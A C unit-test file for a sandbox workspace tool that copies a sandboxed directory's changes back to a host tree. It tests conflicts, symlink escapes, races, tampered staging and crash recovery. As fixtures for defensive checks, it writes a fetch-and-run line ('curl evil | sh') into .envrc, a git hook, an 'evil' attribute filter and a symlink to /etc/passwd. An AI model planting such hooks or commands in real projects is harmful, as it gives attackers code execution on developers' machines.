/* test-ws-apply.c — the safe copy-out. Each test copies a host tree "in" (base manifest),
 * lets a fake box (a directory) change it, streams the box back as tar into the staging
 * area, applies, and checks the host — and that a canary directory outside it is untouched.
 * Run twice by meson: with openat2, and with PADDOCK_TEST_NO_OPENAT2=1 (the fallback). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "util/fdio.h"
#include "workspace/testlib-ws.h"
#include "workspace/ws_io.h"

struct fx {
	char *dir, *host, *boxdir, *outside, *staging;
	int staging_fd;
	struct ws_manifest base, box;
	struct ws_apply_report rep;
};

static int setup(void **state)
{
	struct fx *f = xcalloc(1, sizeof(*f));
	f->dir = tl_tmpdir();
	f->host = xasprintf("%s/host", f->dir);
	f->boxdir = xasprintf("%s/box", f->dir);
	f->outside = xasprintf("%s/outside", f->dir);
	f->staging = xasprintf("%s/staging", f->dir);
	mkdir(f->host, 0755);
	mkdir(f->staging, 0700);
	tl_write(f->outside, "canary", "canary\n", 0644);
	tl_write(f->host, "a.txt", "alpha\n", 0644);
	tl_write(f->host, "dir/b.txt", "bravo\n", 0644);
	tl_write(f->host, "old.txt", "old\n", 0644);
	tl_write(f->host, "script.sh", "#!/bin/sh\necho hi\n", 0644);
	tl_write(f->host, "keep/k.txt", "keep\n", 0644);
	f->staging_fd = tl_opendir(f->staging);
	*state = f;
	return 0;
}

static void assert_outside_intact(struct fx *f)
{
	assert_int_equal(tl_count_entries(f->outside), 1);
	_cleanup_free_ char *c = tl_read(f->outside, "canary");
	assert_string_equal(c, "canary\n");
}

static int teardown(void **state)
{
	struct fx *f = *state;
	assert_outside_intact(f);
	close(f->staging_fd);
	ws_manifest_free(&f->base);
	ws_manifest_free(&f->box);
	ws_apply_report_free(&f->rep);
	tl_rmrf(f->dir);
	free(f->dir);
	free(f->host);
	free(f->boxdir);
	free(f->outside);
	free(f->staging);
	free(f);
	return 0;
}

static void sh(const char *fmt, ...) _printf_(1, 2);
static void sh(const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	_cleanup_free_ char *cmd = NULL;
	assert_true(vasprintf(&cmd, fmt, ap) >= 0);
	va_end(ap);
	assert_int_equal(system(cmd), 0);
}

/* "Copy-in": the base manifest of the host, and the box's copy of the tree. */
static void copy_in(struct fx *f)
{
	tl_manifest_dir(f->host, &f->base);
	sh("cp -a '%s' '%s'", f->host, f->boxdir);
}

/* "Copy-out": the box's tree as a tar stream, ingested into staging. */
static void copy_out(struct fx *f)
{
	int fd = memfd_create("box", MFD_CLOEXEC);
	_cleanup_close_ int bfd = tl_opendir(f->boxdir);
	struct ws_copyin_opts o = {.no_default_excludes = true};
	struct ws_manifest sent = {0};
	assert_int_equal(ws_copyin(bfd, fd, &o, &sent, NULL, NULL), 0);
	ws_manifest_free(&sent);
	lseek(fd, 0, SEEK_SET);
	ws_manifest_free(&f->box);
	assert_int_equal(tl_ingest(fd, f->staging_fd, &f->base, NULL, &f->box, NULL), 0);
	close(fd);
}

static int apply(struct fx *f, const struct ws_apply_opts *o)
{
	ws_apply_report_free(&f->rep);
	pd_err err = {0};
	int r = ws_apply(f->host, &f->base, &f->box, f->staging_fd, o, &f->rep, &err);
	if (r < 0)
		fprintf(stderr, "apply: %s\n", err.msg);
	if (getenv("TL_VERBOSE"))
		ws_apply_report_render(stderr, &f->rep, false);
	return r;
}

static enum ws_result result_of(struct fx *f, const char *path)
{
	for (size_t i = 0; i < f->rep.n; i++)
		if (streq(f->rep.v[i].path, path))
			return f->rep.v[i].result;
	return WS_RESULT_MAX;
}

/* The host now holds exactly the box's tree (minus what excl names). */
static void assert_host_is_box(struct fx *f)
{
	struct ws_manifest now = {0};
	tl_manifest_dir(f->host, &now);
	struct ws_diff d;
	ws_diff_compute(&now, &f->box, &d);
	for (size_t i = 0; i < d.n; i++)
		fprintf(stderr, "differs: %s (%s)\n", ws_delta_path(&d.v[i]), ws_change_str(d.v[i].kind));
	assert_int_equal(d.n, 0);
	ws_diff_free(&d);
	ws_manifest_free(&now);
}

static void box_changes(struct fx *f)
{
	tl_write(f->boxdir, "a.txt", "alpha, edited\n", 0644);
	tl_write(f->boxdir, "new/deep/c.txt", "charlie\n", 0600);
	sh("rm '%s/old.txt' && chmod 0755 '%s/script.sh'", f->boxdir, f->boxdir);
	sh("mkdir '%s/moved' && mv '%s/dir/b.txt' '%s/moved/b.txt' && rmdir '%s/dir'", f->boxdir, f->boxdir,
	   f->boxdir, f->boxdir);
	sh("ln -s a.txt '%s/link' && rm -r '%s/keep' && echo file > '%s/keep'", f->boxdir, f->boxdir, f->boxdir);
}

static void test_apply_normal(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.count[WS_CONFLICT] + f->rep.count[WS_FAILED] + f->rep.count[WS_REFUSED_ENTRY], 0);
	assert_int_equal(result_of(f, "moved/b.txt"), WS_APPLIED);
	assert_int_equal(result_of(f, "keep"), WS_APPLIED); /* dir -> file */
	assert_int_equal(result_of(f, "script.sh"), WS_APPLIED);
	assert_host_is_box(f);
	struct stat st;
	_cleanup_free_ char *c = xasprintf("%s/new/deep/c.txt", f->host);
	assert_int_equal(stat(c, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0600);
	assert_int_equal(st.st_uid, getuid());
}

static int g_wait_pipe = -1;
static void note_waiting(const char *root)
{
	(void)root;
	(void)!write(g_wait_pipe, "w", 1);
}

/* An apply to a tree that contains the host tree (here: its parent, f->dir) holds the host
 * tree's apply back; one to a sibling (a shared lock on the parent) does not. */
static void test_apply_nested_trees_exclude_each_other(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	_cleanup_close_ int outer = open(f->dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(outer >= 0);
	/* a sibling's apply: the parent shared; ours goes through without waiting */
	assert_int_equal(flock(outer, LOCK_SH), 0);
	int p[2];
	assert_int_equal(pipe2(p, O_CLOEXEC | O_NONBLOCK), 0);
	g_wait_pipe = p[1];
	struct ws_apply_opts o = {.waiting = note_waiting, .dry_run = true};
	assert_int_equal(apply(f, &o), 0);
	o.dry_run = false;
	char c;
	pid_t pid = fork();
	if (pid == 0)
		_exit(apply(f, &o) == 0 ? 0 : 1);
	int st;
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	assert_int_equal(read(p[0], &c, 1), -1); /* it did not wait */
	assert_int_equal(errno, EAGAIN);
	/* an apply to the parent tree: ours waits until it is done */
	assert_int_equal(flock(outer, LOCK_EX), 0);
	tl_write(f->boxdir, "later.txt", "later\n", 0644);
	copy_out(f);
	pid = fork();
	if (pid == 0)
		_exit(apply(f, &o) == 0 ? 0 : 1);
	struct pollfd pf = {.fd = p[0], .events = POLLIN};
	assert_int_equal(poll(&pf, 1, 5000), 1);
	assert_int_equal(read(p[0], &c, 1), 1);
	assert_int_equal(waitpid(pid, &st, WNOHANG), 0); /* still held back */
	_cleanup_free_ char *later = xasprintf("%s/later.txt", f->host);
	assert_int_equal(access(later, F_OK), -1);
	assert_int_equal(flock(outer, LOCK_UN), 0);
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	assert_int_equal(access(later, F_OK), 0);
	close(p[0]);
	close(p[1]);
	g_wait_pipe = -1;
}

/* A host file hard linked from outside the project: a mode change must not reach the
 * outside name (the inode is never chmod'ed in place). */
static void test_apply_mode_change_hardlinked(void **state)
{
	struct fx *f = *state;
	_cleanup_free_ char *in = xasprintf("%s/script.sh", f->host), *out = xasprintf("%s/hardlink", f->dir);
	assert_int_equal(link(in, out), 0);
	copy_in(f);
	sh("chmod 0755 '%s/script.sh'", f->boxdir);
	copy_out(f);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "script.sh"), WS_APPLIED);
	struct stat st;
	assert_int_equal(stat(out, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0644);
	assert_int_equal(stat(in, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0755);
}

static void test_apply_dry_run(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	struct ws_apply_opts o = {.dry_run = true};
	assert_int_equal(apply(f, &o), 0);
	assert_true(f->rep.count[WS_APPLIED] > 5);
	assert_int_equal(f->rep.count[WS_CONFLICT], 0);
	struct ws_manifest now = {0};
	tl_manifest_dir(f->host, &now);
	struct ws_diff d;
	ws_diff_compute(&f->base, &now, &d);
	assert_int_equal(d.n, 0); /* nothing touched */
	ws_diff_free(&d);
	ws_manifest_free(&now);
}

static void test_apply_idempotent(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.count[WS_ALREADY], f->rep.n);
	assert_host_is_box(f);
}

static void test_apply_conflict_and_force(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	tl_write(f->host, "a.txt", "the user edited this meanwhile\n", 0644);
	tl_write(f->host, "old.txt", "and this\n", 0644);
	tl_write(f->host, "dir/untracked", "user file\n", 0644);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "a.txt"), WS_CONFLICT);
	assert_int_equal(result_of(f, "old.txt"), WS_CONFLICT);
	assert_int_equal(result_of(f, "dir"), WS_CONFLICT); /* not empty: the user's file stays */
	assert_int_equal(result_of(f, "script.sh"), WS_APPLIED);
	_cleanup_free_ char *a = tl_read(f->host, "a.txt");
	assert_string_equal(a, "the user edited this meanwhile\n");
	assert_true(tl_exists(f->host, "dir/untracked"));
	o.force = true;
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "a.txt"), WS_APPLIED);
	assert_int_equal(result_of(f, "old.txt"), WS_APPLIED);
	assert_int_equal(result_of(f, "dir"), WS_CONFLICT); /* force never empties a directory */
	_cleanup_free_ char *a2 = tl_read(f->host, "a.txt");
	assert_string_equal(a2, "alpha, edited\n");
	assert_false(tl_exists(f->host, "old.txt"));
	assert_true(tl_exists(f->host, "dir/untracked"));
}

static void test_apply_exec_paths(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	tl_write(f->boxdir, ".git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n", 0755);
	tl_write(f->boxdir, ".envrc", "curl evil | sh\n", 0644);
	tl_write(f->boxdir, ".vscode/tasks.json", "{}\n", 0644);
	tl_write(f->boxdir, ".gitattributes", "*.c filter=evil\n", 0644);
	tl_write(f->boxdir, "src/.gitattributes", "*.c text\n", 0644);
	copy_out(f);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, ".git/hooks/post-checkout"), WS_SKIPPED_EXEC);
	assert_int_equal(result_of(f, ".envrc"), WS_SKIPPED_EXEC);
	assert_int_equal(result_of(f, ".vscode/tasks.json"), WS_SKIPPED_EXEC);
	assert_int_equal(result_of(f, ".gitattributes"), WS_SKIPPED_EXEC);
	assert_int_equal(result_of(f, "src/.gitattributes"), WS_APPLIED);
	assert_false(tl_exists(f->host, ".git/hooks/post-checkout"));
	assert_false(tl_exists(f->host, ".envrc"));
	assert_false(tl_exists(f->host, ".vscode/tasks.json"));
	char *allow[] = {".envrc", ".vscode", NULL};
	o.allow_exec = allow;
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, ".envrc"), WS_APPLIED);
	assert_int_equal(result_of(f, ".vscode/tasks.json"), WS_APPLIED);
	assert_int_equal(result_of(f, ".git/hooks/post-checkout"), WS_SKIPPED_EXEC);
	assert_false(tl_exists(f->host, ".git/hooks/post-checkout"));
}

/* A project file moved into .git/hooks is a rename whose old side is an ordinary path:
 * naming that old path's directory with --allow-exec-paths must not let the hook through,
 * nor create .git/hooks on the way. Naming the hook does. */
static void test_apply_exec_rename_needs_the_new_path_named(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	sh("mkdir -p '%s/.git/hooks' && mv '%s/script.sh' '%s/.git/hooks/pre-commit' && chmod 0755 '%s/.git/hooks/pre-commit'",
	   f->boxdir, f->boxdir, f->boxdir, f->boxdir);
	copy_out(f);
	char *allow_old[] = {"script.sh", NULL};
	struct ws_apply_opts o = {.allow_exec = allow_old};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, ".git/hooks/pre-commit"), WS_SKIPPED_EXEC);
	assert_false(tl_exists(f->host, ".git/hooks/pre-commit"));
	assert_false(tl_exists(f->host, ".git/hooks"));
	assert_true(tl_exists(f->host, "script.sh"));
	char *allow_new[] = {".git/hooks/pre-commit", NULL};
	o.allow_exec = allow_new;
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, ".git/hooks/pre-commit"), WS_APPLIED);
	assert_true(tl_exists(f->host, ".git/hooks/pre-commit"));
}

static void test_apply_host_symlink_component(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	tl_write(f->boxdir, "dir/new.txt", "new\n", 0644);
	tl_write(f->boxdir, "dir/b.txt", "changed\n", 0644);
	copy_out(f);
	/* after copy-in, something on the host turned dir into a symlink to outside */
	sh("mv '%s/dir' '%s/dir.real' && ln -s '%s' '%s/dir'", f->host, f->host, f->outside, f->host);
	struct ws_apply_opts o = {.force = true};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "dir/new.txt"), WS_REFUSED_ENTRY);
	assert_int_equal(result_of(f, "dir/b.txt"), WS_REFUSED_ENTRY);
	assert_outside_intact(f);
}

static void test_apply_refused_box_entries(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	sh("ln -s /etc/passwd '%s/abs' && ln -s ../../x '%s/dir/esc' && ln -s '%s/canary' '%s/to-canary'",
	   f->boxdir, f->boxdir, f->outside, f->boxdir);
	copy_out(f);
	struct ws_apply_opts o = {.force = true};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "abs"), WS_REFUSED_ENTRY);
	assert_int_equal(result_of(f, "dir/esc"), WS_REFUSED_ENTRY);
	assert_int_equal(result_of(f, "to-canary"), WS_REFUSED_ENTRY);
	assert_false(tl_exists(f->host, "abs"));
	assert_false(tl_exists(f->host, "to-canary"));
}

struct race {
	struct fx *f;
	const char *target_path;
	enum ws_apply_phase phase;
	int fired;
	void (*act)(struct fx *f);
};

static void race_hook(void *ud, enum ws_apply_phase phase, const char *path, int dirfd)
{
	struct race *r = ud;
	if (phase == r->phase && streq(path, r->target_path) && !r->fired++)
		r->act(r->f);
}

/* Between resolving dir/ and writing into it, dir is swapped for a symlink to outside. */
static void swap_parent(struct fx *f)
{
	sh("mv '%s/dir' '%s/dir.moved' && ln -s '%s' '%s/dir'", f->host, f->host, f->outside, f->host);
}

/* Between checking dir/b.txt and renaming over it, it becomes a symlink to the canary. */
static void swap_final(struct fx *f)
{
	sh("rm '%s/dir/b.txt' && ln -s '%s/canary' '%s/dir/b.txt'", f->host, f->outside, f->host);
}

static void test_apply_race_parent_swap(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	tl_write(f->boxdir, "dir/b.txt", "box version\n", 0644);
	copy_out(f);
	struct race r = {f, "dir/b.txt", WS_PHASE_RESOLVED, 0, swap_parent};
	struct ws_apply_opts o = {.hook = race_hook, .hook_ud = &r};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(r.fired, 1);
	assert_outside_intact(f); /* the write went to the directory we had opened */
	_cleanup_free_ char *moved = tl_read(f->host, "dir.moved/b.txt");
	assert_string_equal(moved, "box version\n");
}

static void test_apply_race_final_swap(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	tl_write(f->boxdir, "dir/b.txt", "box version\n", 0644);
	copy_out(f);
	struct race r = {f, "dir/b.txt", WS_PHASE_STAGED, 0, swap_final};
	struct ws_apply_opts o = {.hook = race_hook, .hook_ud = &r};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "dir/b.txt"), WS_CONFLICT);
	assert_outside_intact(f);
	/* forced now: the symlink itself is replaced, the canary it pointed to is not written */
	r.fired = 1;
	o.force = true;
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "dir/b.txt"), WS_APPLIED);
	_cleanup_free_ char *b = tl_read(f->host, "dir/b.txt");
	assert_string_equal(b, "box version\n");
	assert_outside_intact(f);
}

static void test_apply_tampered_staging(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	tl_write(f->boxdir, "a.txt", "box says A\n", 0644);
	copy_out(f);
	uint8_t sha[WS_SHA256_LEN];
	char hex[2 * WS_SHA256_LEN + 1];
	ws_sha256("box says A\n", 11, sha);
	ws_sha256_hex(sha, hex);
	tl_write(f->staging, hex, "box says B\n", 0600); /* same size, other bytes */
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(result_of(f, "a.txt"), WS_FAILED);
	_cleanup_free_ char *a = tl_read(f->host, "a.txt");
	assert_string_equal(a, "alpha\n");
	assert_int_equal(tl_count_entries(f->host), 5); /* no temp file left behind */
}

static void test_apply_cleans_temps(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	copy_out(f);
	tl_write(f->host, "dir/" WS_TMP_PREFIX "0011223344556677", "half", 0600);
	tl_write(f->host, WS_TMP_PREFIX "aa", "half", 0600);
	sh("ln -s '%s/canary' '%s/keep/" WS_TMP_PREFIX "bb'", f->outside, f->host);
	sh("mkdir '%s/" WS_TMP_PREFIX "dir' && mkfifo '%s/" WS_TMP_PREFIX "fifo'", f->host, f->host);
	struct ws_apply_opts o = {0};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.temps_removed, 3);
	assert_false(tl_exists(f->host, "dir/" WS_TMP_PREFIX "0011223344556677"));
	assert_false(tl_exists(f->host, "keep/" WS_TMP_PREFIX "bb"));
	assert_true(tl_exists(f->host, WS_TMP_PREFIX "dir"));  /* not a regular file: left */
	assert_true(tl_exists(f->host, WS_TMP_PREFIX "fifo"));
	assert_outside_intact(f);
}

static void test_apply_paths_filter(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	char *paths[] = {"new/deep/c.txt", NULL};
	struct ws_apply_opts o = {.paths = paths};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.n, 1); /* the file only; its parents are created on the way */
	assert_true(tl_exists(f->host, "new/deep/c.txt"));
	char *paths2[] = {"new", "script.sh", NULL};
	o.paths = paths2;
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.n, 4);
	assert_int_equal(f->rep.count[WS_ALREADY], 3);
	assert_int_equal(result_of(f, "script.sh"), WS_APPLIED);
	_cleanup_free_ char *a = tl_read(f->host, "a.txt");
	assert_string_equal(a, "alpha\n");
}

/* SIGKILL at each hook point of a child's apply: every host file stays old or new, and a
 * re-run finishes the job. */
static int kill_at, hook_calls;
static void kill_hook(void *ud, enum ws_apply_phase phase, const char *path, int dirfd)
{
	if (++hook_calls == kill_at)
		raise(SIGKILL);
}

static void assert_old_or_new(struct fx *f)
{
	struct ws_manifest now = {0};
	tl_manifest_dir(f->host, &now);
	for (size_t i = 0; i < now.n; i++) {
		const struct ws_entry *h = &now.v[i], *a = ws_manifest_find(&f->base, h->path),
				      *b = ws_manifest_find(&f->box, h->path);
		bool old = a && a->type == h->type && (h->type != WS_FILE || !memcmp(a->sha256, h->sha256, 32));
		bool new = b && b->type == h->type && (h->type != WS_FILE || !memcmp(b->sha256, h->sha256, 32));
		if (!old && !new)
			fprintf(stderr, "half-written: %s\n", h->path);
		assert_true(old || new);
	}
	ws_manifest_free(&now);
}

static void test_apply_crash_rerun(void **state)
{
	struct fx *f = *state;
	for (int i = 0; i < 40; i++) {
		char name[32];
		snprintf(name, sizeof(name), "many/f%02d", i);
		tl_write(f->host, name, "original\n", 0644);
	}
	copy_in(f);
	box_changes(f);
	sh("for i in $(seq 0 39); do echo changed $i > '%s/many/f'$(printf %%02d $i); done", f->boxdir);
	copy_out(f);
	_cleanup_free_ char *journal = xasprintf("%s/journal", f->dir);
	_cleanup_free_ char *marked = xasprintf("ls '%s' 2>/dev/null | grep -q '^apply-'", journal);
	int killed = 0;
	for (kill_at = 1; kill_at < 200; kill_at += 9) {
		pid_t pid = fork();
		if (pid == 0) {
			struct ws_apply_opts o = {.hook = kill_hook, .no_sync = true, .journal_dir = journal};
			struct ws_apply_report rep;
			hook_calls = 0;
			ws_apply(f->host, &f->base, &f->box, f->staging_fd, &o, &rep, NULL);
			_exit(0);
		}
		int status;
		assert_int_equal(waitpid(pid, &status, 0), pid);
		assert_old_or_new(f);
		/* an interrupted apply leaves its mark (the next one walks the tree for its temp
		 * files); a finished one does not */
		assert_int_equal(system(marked) == 0, WIFSIGNALED(status));
		killed += WIFSIGNALED(status);
	}
	assert_true(killed > 0);
	struct ws_apply_opts o = {.journal_dir = journal};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.count[WS_CONFLICT] + f->rep.count[WS_FAILED], 0);
	assert_host_is_box(f);
	_cleanup_free_ char *find = xasprintf("find '%s' -name '" WS_TMP_PREFIX "*' | grep -q .", f->host);
	assert_int_not_equal(system(find), 0); /* no temp file left anywhere */
	assert_int_not_equal(system(marked), 0); /* and no mark */
}

/* 700 changed files, applied in batches as large as the fd limit allows: all applied, under
 * the process's own limit and under one too low for even a batch of 128, and the soft limit
 * is what it was afterwards (in a child: the test lowers the hard limit) */
static void apply_many_under_limit(struct fx *f, rlim_t limit)
{
	for (int i = 0; i < 700; i++) {
		char name[32];
		snprintf(name, sizeof(name), "many/d%d/f%03d", i % 7, i);
		tl_write(f->host, name, "original\n", 0644);
	}
	copy_in(f);
	sh("for i in $(seq 0 699); do echo changed $i > '%s/many/d'$((i %% 7))/f$(printf %%03d $i); done", f->boxdir);
	copy_out(f);
	pid_t pid = fork();
	if (pid == 0) {
		struct rlimit lim = {limit, limit}, after;
		if (limit && setrlimit(RLIMIT_NOFILE, &lim) < 0)
			_exit(2);
		struct rlimit before;
		getrlimit(RLIMIT_NOFILE, &before);
		struct ws_apply_opts o = {.no_sync = true};
		if (apply(f, &o) < 0 || f->rep.count[WS_APPLIED] != 700 || f->rep.count[WS_FAILED] != 0)
			_exit(3);
		getrlimit(RLIMIT_NOFILE, &after);
		_exit(after.rlim_cur == before.rlim_cur ? 0 : 4);
	}
	int status;
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
	assert_host_is_box(f);
}

static void test_apply_many_files(void **state) { apply_many_under_limit(*state, 0); }
static void test_apply_many_files_low_fd_limit(void **state) { apply_many_under_limit(*state, 300); }

/* With a journal and no mark (no apply of this tree was interrupted) the tree is not walked:
 * a temp-named file of someone else's is left alone; without a journal every apply walks. */
static void test_apply_journal_skips_walk(void **state)
{
	struct fx *f = *state;
	copy_in(f);
	box_changes(f);
	copy_out(f);
	tl_write(f->host, "deep/er/" WS_TMP_PREFIX "0123456789abcdef", "x\n", 0600);
	_cleanup_free_ char *journal = xasprintf("%s/journal", f->dir);
	struct ws_apply_opts o = {.journal_dir = journal};
	assert_int_equal(apply(f, &o), 0);
	assert_int_equal(f->rep.temps_removed, 0);
	_cleanup_free_ char *tmp = xasprintf("%s/deep/er/" WS_TMP_PREFIX "0123456789abcdef", f->host);
	assert_int_equal(access(tmp, F_OK), 0);
	_cleanup_free_ char *empty = xasprintf("test -z \"$(ls -A '%s')\"", journal);
	assert_int_equal(system(empty), 0);
	struct ws_apply_opts walk = {0};
	assert_int_equal(apply(f, &walk), 0);
	assert_int_equal(f->rep.temps_removed, 1);
	assert_int_not_equal(access(tmp, F_OK), 0);
}

static void test_resolver_mode(void **state)
{
	const char *e = getenv("PADDOCK_TEST_NO_OPENAT2");
	bool forced = e && streq(e, "1");
	assert_int_equal(ws_resolve_uses_openat2(), !forced);
	struct fx *f = *state;
	_cleanup_close_ int root = open(f->host, O_PATH | O_DIRECTORY | O_CLOEXEC);
	int fd = -1;
	sh("ln -s '%s' '%s/out'", f->outside, f->host);
	assert_int_equal(ws_open_beneath(root, "out/canary", O_RDONLY, &fd), -ELOOP);
	assert_int_equal(ws_open_beneath(root, "out", O_RDONLY, &fd), -ELOOP);
	assert_int_equal(ws_open_beneath(root, "../outside/canary", O_RDONLY, &fd), -EINVAL);
	assert_int_equal(ws_open_beneath(root, "/etc/passwd", O_RDONLY, &fd), -EINVAL);
	assert_int_equal(ws_open_beneath(root, "dir/b.txt/x", O_RDONLY, &fd), -ENOTDIR);
	assert_int_equal(ws_open_beneath(root, "dir/b.txt", O_RDONLY, &fd), 0);
	close(fd);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_resolver_mode, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_normal, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_nested_trees_exclude_each_other, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_journal_skips_walk, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_many_files, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_many_files_low_fd_limit, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_mode_change_hardlinked, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_dry_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_idempotent, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_conflict_and_force, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_exec_paths, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_exec_rename_needs_the_new_path_named, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_host_symlink_component, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_refused_box_entries, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_race_parent_swap, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_race_final_swap, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_tampered_staging, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_cleans_temps, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_paths_filter, setup, teardown),
		cmocka_unit_test_setup_teardown(test_apply_crash_rerun, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
